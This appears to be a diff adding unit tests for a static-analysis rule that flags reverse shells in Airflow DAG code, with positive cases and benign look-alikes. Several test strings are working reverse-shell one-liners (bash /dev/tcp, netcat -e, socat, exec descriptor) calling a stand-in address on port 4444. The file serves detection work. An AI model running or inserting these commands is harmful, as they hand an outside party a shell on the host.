@@ -1,0 +1,47 @@
+import { describe, expect, test } from "vitest";
+import { placesIn } from "../../analysis/inspect-texts.ts";
+
+const places = (text: string) => placesIn("SEC-012", text);
+
+describe("a shell on the network", () => {
+  test.each([
+    [
+      "bash",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1")\n',
+    ],
+    [
+      "netcat",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="nc 203.0.113.7 4444 -e /bin/sh")\n',
+    ],
+    [
+      "exec",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="exec 5<>/dev/tcp/203.0.113.7/4444; cat <&5 | sh >&5")\n',
+    ],
+    [
+      "socat",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="socat tcp:203.0.113.7:4444 exec:sh")\n',
+    ],
+    ["Python", 'import socket, os, pty\npty.spawn("/bin/sh")\n'],
+    ["its output", "import socket, os\ns = socket.socket()\nos.dup2(s.fileno(), 0)\n"],
+  ])("%s", async (_, text) => {
+    expect(await places(text)).toHaveLength(1);
+  });
+
+  test.each([
+    [
+      "waiting for a port",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="timeout 3 bash -c \'</dev/tcp/db/5432\'")\n',
+    ],
+    [
+      "waiting by netcat",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="nc -z db 5432")\n',
+    ],
+    [
+      "redirecting",
+      'from airflow.providers.standard.operators.bash import BashOperator\nBashOperator(task_id="x", bash_command="run.sh >& out.txt")\n',
+    ],
+    ["another descriptor", 'import os\nf = open("x")\nos.dup2(f.fileno(), 0)  # eval\n'],
+  ])("not: %s", async (_, text) => {
+    expect(await places(text)).toEqual([]);
+  });
+});
